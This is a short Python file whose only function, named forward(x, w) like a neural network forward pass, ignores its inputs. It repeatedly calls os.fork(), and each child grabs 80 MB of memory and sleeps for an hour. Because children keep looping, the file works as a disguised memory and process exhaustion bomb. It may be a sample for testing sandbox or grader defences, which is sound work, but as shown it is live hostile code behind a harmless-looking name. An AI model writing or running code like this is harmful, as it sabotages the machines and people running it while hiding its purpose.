import os
import time


def forward(x, w):
    for _ in range(8):
        if os.fork() == 0:
            kept = bytearray(b"x") * (80 << 20)
            time.sleep(3600)
    time.sleep(3600)
